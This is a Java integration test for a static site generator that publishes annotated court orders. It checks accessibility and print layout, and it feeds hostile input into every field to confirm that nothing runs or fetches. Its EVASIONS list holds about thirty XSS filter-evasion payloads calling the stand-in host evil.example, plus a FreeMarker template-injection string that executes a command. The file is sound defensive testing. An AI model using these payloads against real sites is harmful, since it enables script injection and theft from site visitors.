package org.glossator;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.NavigableMap;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.glossator.build.Content;
import org.glossator.build.Pipeline;
import org.glossator.build.SiteWriter;
import org.glossator.harness.Axe;
import org.glossator.harness.Browser;
import org.glossator.harness.HtmlValidator;
import org.glossator.harness.SiteCheck;
import org.glossator.harness.StaticServer;
import org.glossator.harness.Tab;
import org.glossator.render.template.Theme;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A site whose notes are of every kind, and one whose every field was written by an enemy. */
class NotesIT {
  private static final String ORDER = "orders/first-time-videos-v-does/";

  /** Ways to make a page run or fetch something, in the forms that filters are known to miss. */
  private static final List<String> EVASIONS =
      List.of(
          "<script>window.hit=1</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<img src=x onerror=window.hit=1>",
          "<img src=https://evil.example/p.png>",
          "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s>",
          "<svg><script>window.hit=1</script></svg>",
          "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hit=1>",
          "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
          "<object data=https://evil.example/></object><embed src=//evil.example/>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<style>@import url(https://evil.example/x.css)</style>",
          "<base href=https://evil.example/>",
          "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
          "<form action=https://evil.example/><button autofocus onfocus=window.hit=1>x",
          "<a href=\"javascript:window.hit=1\">x</a>",
          "<a href=\" java&#x09;script:window.hit=1\">x</a>",
          "<details open ontoggle=window.hit=1>x</details>",
          "<video><source onerror=window.hit=1></video><audio src=x onerror=window.hit=1>",
          "<body onload=window.hit=1><input autofocus onfocus=window.hit=1>",
          "\"><script>window.hit=1</script>",
          "'-alert(1)-' \" onmouseover=\"window.hit=1",
          "</title><script>window.hit=1</script>",
          "</script><script>window.hit=1</script>",
          "<!--<img src=\"--><img src=x onerror=window.hit=1>\">",
          "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
          "<template><script>window.hit=1</script></template>",
          "${7*7} <#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
          "<x onclick=window.hit=1 style=\"background:url(https://evil.example/)\">x</x>",
          "[x](javascript:window.hit=1) ![x](https://evil.example/p.png) <javascript:window.hit=1>",
          "[x]: javascript:window.hit=1",
          "[^x] <sup id=text>1</sup> <li id=main>y</li> <div class=site>z</div>");

  @TempDir Path folder;

  @Test
  void every_kind_of_note_is_valid_and_accessible() throws IOException {
    Path site = publish(content(kinds()));
    assertThat(SiteCheck.problems(site)).isEmpty();
    assertThat(HtmlValidator.check(site)).isEmpty();
    List<String> found = new ArrayList<>();
    try (Browser browser = Browser.launch();
        StaticServer server = StaticServer.serve(site, "/a/", StaticServer.STRICT_POLICY);
        Tab tab = browser.newTab()) {
      for (String page : pages(site)) {
        tab.open(server.url(page));
        Axe.inLightAndDark(tab).forEach(violation -> found.add(page + " " + violation));
      }
      found.addAll(tab.problems());
    }
    assertThat(found).isEmpty();
  }

  @Test
  void printing_opens_what_is_folded() throws IOException {
    Path site = publish(content(kinds()));
    try (Browser browser = Browser.launch();
        StaticServer server = StaticServer.serve(site);
        Tab tab = browser.newTab().media("print", "light")) {
      tab.open(server.url(order(site)));
      assertThat(
              tab.evaluate(
                      "document.querySelector('details.elide > span').getBoundingClientRect().width")
                  .asDouble())
          .isGreaterThan(10);
    }
  }

  @Test
  void nothing_that_an_enemy_writes_runs_or_fetches() throws IOException {
    StringBuilder notes = new StringBuilder();
    List<String> words =
        List.of("declines to sever", "such time periods can be", "presents a closer question");
    for (int i = 0; i < EVASIONS.size(); i++) {
      String evil = EVASIONS.get(i);
      String attribute = evil.replace("\"", "'").replace("{", "(").replace("}", ")");
      notes
          .append("> " + words.get(i % words.size()) + "\n\n" + evil + "\n\ntext " + evil + "\n")
          .append("{id=e" + i + " tags=\"" + attribute.replace(",", ";") + "\"}\n\n")
          .append(
              "> presents a closer question\n\nx\n{kind=replace with=\"" + attribute + "\"}\n\n")
          .append("> [re e" + i + "]\n\n" + evil + "\n\n")
          .append(
              "> has sufficient pled\n\n"
                  + evil
                  + "\n{kind=treatment as=applies of=\""
                  + attribute
                  + "\"}\n\n");
    }
    NavigableMap<String, byte[]> files = content(notes.toString());
    String all = String.join(" ", EVASIONS).replace("'", "''");
    files.put(
        "site.yaml",
        ("title: '" + all + "'\npublisher: '" + all + "'\nrights: '" + all + "'\n")
            .getBytes(UTF_8));
    files.put(
        "authors.yaml", ("editor: {name: '" + all + "', role: '" + all + "'}\n").getBytes(UTF_8));
    files.put(
        ORDER + "order.yaml",
        ("name: '" + all + "'\nsummary: '" + all + "'\nsource: '" + all + "'\n").getBytes(UTF_8));
    Path site = publish(files);
    try (Browser browser = Browser.launch();
        StaticServer server = StaticServer.serve(site, "/a/", StaticServer.STRICT_POLICY);
        Tab tab = browser.newTab()) {
      for (String page : pages(site)) {
        tab.open(server.url(page));
        assertThat(tab.evaluate("window.hit === undefined").asBoolean()).as(page).isTrue();
        assertThat(
                tab.evaluate(
                        "document.querySelectorAll('base, iframe, object, embed, form[action*=evil], main style, a[href^=javascript]').length")
                    .asInt())
            .as(page)
            .isZero();
      }
      assertThat(tab.policyViolations()).isEmpty();
      assertThat(tab.requests())
          .isNotEmpty()
          .extracting(Tab.Request::url)
          .allMatch(
              u -> u.startsWith(server.url("")) || u.startsWith("data:"), "stays on the site");
    }
  }

  private Path publish(NavigableMap<String, byte[]> files) throws IOException {
    Pipeline.Result result = Pipeline.build(Content.of("content", files), Theme.standard());
    assertThat(result.diagnostics())
        .filteredOn(d -> d.severity().word().equals("error"))
        .filteredOn(d -> !d.message().startsWith("there is no picture \"https://evil.example/"))
        .isEmpty();
    Path site = folder.resolve("site");
    SiteWriter.publish(site, result.files(), List.of());
    return site;
  }

  private static NavigableMap<String, byte[]> content(String notes) throws IOException {
    NavigableMap<String, byte[]> files = new TreeMap<>();
    for (String file :
        List.of("site.yaml", "authors.yaml", ORDER + "order.txt", ORDER + "order.yaml")) {
      files.put(file, Files.readAllBytes(Path.of("content").resolve(file)));
    }
    files.put(ORDER + "notes.md", notes.getBytes(UTF_8));
    return files;
  }

  private static String kinds() {
    return """
    > severing the putative defendants at this early stage is no solution

    A note[^1] on *Gibbs*, 383 U.S. 715 (1966), see [[11-3822, 11:26]].

    | a | b |
    |---|---|
    | 1 | 2 |

    <ul>loose<li>one</li></ul> <i><p>odd</p></i> <li>lone</li>

    [^1]: With a footnote.
    {id=one tags="joinder"}

    > [re one]

    I read it otherwise.
    {date=2026-02-03}

    > such time periods can be somewhat arbitrary

    {kind=highlight}

    > declines to sever the Doe Defendants

    {kind=elide}

    > II. BACKGROUND On September 21, 2011

    {kind=elide}

    > The Court therefore

    {kind=replace with="We"}

    > ease the administrative burden

    {kind=link to="https://example.org/a"}

    > has sufficient pled

    Read “sufficiently”.
    {kind=correction}

    > United Mine Workers of Am. v. Gibbs, 383 U.S. 715

    {kind=treatment as=applies}
    """;
  }

  private static String order(Path site) throws IOException {
    return pages(site).stream()
        .filter(p -> p.startsWith("cand/") && p.endsWith("discovery/index.html"))
        .findFirst()
        .orElseThrow();
  }

  /** The pages that show notes: the order's, the notes', one of each kind of the others. */
  private static List<String> pages(Path site) throws IOException {
    try (Stream<Path> all = Files.walk(site)) {
      return all.filter(p -> p.toString().endsWith(".html"))
          .map(p -> site.relativize(p).toString().replace('\\', '/'))
          .filter(p ->
              p.matches("index.html|(?:cand|notes|tags|people)/.*") && !p.contains("/facsimile/"))
          .sorted()
          .toList();
    }
  }
}
